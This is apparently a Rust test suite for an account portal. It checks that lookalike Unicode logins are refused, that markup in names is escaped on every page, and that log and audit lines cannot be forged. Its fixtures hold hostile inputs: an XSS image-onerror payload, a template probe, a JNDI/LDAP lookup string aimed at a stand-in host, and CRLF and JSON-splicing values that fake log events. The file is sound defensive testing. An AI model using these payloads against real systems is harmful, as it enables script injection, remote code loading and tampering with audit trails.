//! Names and texts that pretend: to be another name, to be markup, to be a line of the log.

use domain::Refusal;
use domain::account::{Role, State};
use domain::service::{DirectoryRecord, FieldRefused, NewPerson};

use crate::cast::record;
use crate::log;
use crate::portal::TestPortal;

#[tokio::test]
async fn a_136_two_names_that_look_the_same_are_one_name() {
    let portal = TestPortal::new().await;
    let add = async |login: &str, name: &str| {
        let record = DirectoryRecord {
            login: login.into(),
            name: name.into(),
            ..record("x@example.org")
        };
        let new = NewPerson {
            record,
            password: None,
            role: Role::User,
            state: State::Disabled,
        };
        portal
            .services
            .add_people(&[new], &portal.trace())
            .await
            .unwrap()
            .map_err(|refused| refused[0].1)
    };
    assert!(add("admin@example.org", "Admin").await.is_ok());
    for twin in [
        "ADMIN@example.org",
        "ａｄｍｉｎ@example.org",
        " admin@example.org",
        "admin@example.org.",
        "𝐚𝐝𝐦𝐢𝐧@example.org",
    ] {
        assert_eq!(
            add(twin, "Twin").await.unwrap_err(),
            FieldRefused {
                field: "user",
                refusal: Refusal::NameTaken
            },
            "{twin}"
        );
    }
    // What cannot be seen cannot tell two names apart.
    for hidden in [
        '\u{200b}',
        '\u{200d}',
        '\u{ad}',
        '\u{2060}',
        '\u{feff}',
        '\u{202e}',
        '\u{2066}',
        '\u{34f}',
        '\u{3164}',
        '\u{fe0f}',
        '\u{e0041}',
        '\0',
        '\n',
        ' ',
    ] {
        let twin = format!("ad{hidden}min@example.org");
        let refused = add(&twin, "Twin").await.unwrap_err();
        assert_eq!(
            refused,
            FieldRefused {
                field: "user",
                refusal: Refusal::BadCharacters
            },
            "{hidden:?}"
        );
        let page = portal
            .browser()
            .post("/sign-in", &[("user", &twin), ("password", "x")])
            .await;
        assert!(page.refuses(Refusal::WrongCredentials));
    }
    for name in [
        "a\u{202e}b",
        "a\u{2067}b",
        "a\u{200f}b",
        "a\nb",
        "a\u{1b}[2Jb",
    ] {
        assert_eq!(
            add("bidi@example.org", name).await.unwrap_err(),
            FieldRefused {
                field: "name",
                refusal: Refusal::BadCharacters
            },
            "{name:?}"
        );
    }
    assert!(
        add(
            &format!("a{}@example.org", "\u{301}".repeat(1_000)),
            "Marks"
        )
        .await
        .is_err()
    );
    assert!(
        add(
            "marks@example.org",
            &format!("a{}", "\u{335}".repeat(1_000))
        )
        .await
        .is_err()
    );
    assert!(
        add("emoji@example.org", "Zoë 漢字 👩🏽‍🚀 O'Brien <b>")
            .await
            .is_ok()
    );
}

#[tokio::test]
async fn a_136_a_name_of_markup_is_text_on_every_page() {
    let portal = TestPortal::new().await;
    let hostile = "\"><img src=x onerror=alert(1)>'&{{7*7}}</title>";
    let person = portal.enrolled("sanne@example.org").await;
    let account = portal.account(person.id).await;
    let record = DirectoryRecord {
        name: hostile.into(),
        title: hostile.into(),
        ..record("sanne@example.org")
    };
    portal
        .services
        .set_directory(&account, &record, &portal.trace())
        .await
        .unwrap();
    let mut browser = portal.signed_in(&person).await;
    browser
        .post("/app-passwords/create", &[("name", hostile)])
        .await;
    let app = portal.account(person.id).await.apps[0].id;
    browser
        .post(
            &format!("/security/apps/{app}/rename"),
            &[("name", hostile)],
        )
        .await;
    let row = portal.account(person.id).await.app_passwords[0].id;
    for path in [
        "/profile",
        "/security",
        "/app-passwords",
        "/app-passwords/created",
        &format!("/app-passwords/{row}/delete"),
        &format!("/security/apps/{app}/rename"),
        &format!("/security/apps/{app}/delete"),
        "/help",
    ] {
        let page = browser.get(path).await;
        assert_eq!(page.status, 200, "{path}");
        assert!(!page.body.contains("<img"), "{path}");
        assert!(page.says("<img src=x onerror=alert(1)>"), "{path}");
    }
    let page = portal
        .browser()
        .post("/sign-in", &[("user", hostile), ("password", "x")])
        .await;
    assert!(!page.body.contains("<img"));
    let page = portal
        .browser()
        .get("/%3Cimg%20src=x%3E%22%3E%3Cscript%3E")
        .await;
    assert!(page.status == 404 && !page.body.contains("<img") && !page.body.contains("<script>"));
}

#[tokio::test]
async fn a_141_no_stranger_writes_a_line_of_his_own() {
    let log = log::listen();
    let portal = TestPortal::new().await;
    let person = portal.enrolled("sanne@example.org").await;
    let hostile =
        "x\r\n2027-01-15T08:00:00Z ERROR forged \u{1b}[2J\u{2028}\u{2029}\"}{\"event\":\"forged";
    for agent in [
        "a\tb",
        "\"}{\"event\":\"user_delete",
        "${jndi:ldap://evil}",
        &"x".repeat(5_000),
    ] {
        let mut browser = portal.browser().with("user-agent", agent);
        browser
            .post("/sign-in", &[("user", hostile), ("password", hostile)])
            .await;
        browser.post("/sign-in/verify", &[("code", hostile)]).await;
    }
    let mut browser = portal.signed_in(&person).await;
    browser
        .post("/app-passwords/create", &[("name", "Laptop\u{2028}forged")])
        .await;
    portal.machine(&serde_json::json!({ "user": hostile, "password": hostile, "service": "imap", "client_ip": "" }).to_string()).await;
    assert!(
        !log.says("forged"),
        "what was typed does not get into the log at all"
    );
    let rows = portal.audit().await;
    for row in &rows {
        assert!(row.user_agent.chars().count() <= 200);
        let line = serde_json::to_string(row).unwrap();
        assert_eq!(line.lines().count(), 1);
        assert!(serde_json::from_str::<domain::audit::Row>(&line).is_ok_and(|read| read == *row));
        assert!(
            !line.contains('\u{1b}') && !line.contains("forged"),
            "{line}"
        );
    }
    assert_eq!(
        rows.iter().filter(|row| row.event == "user_delete").count(),
        0
    );
}
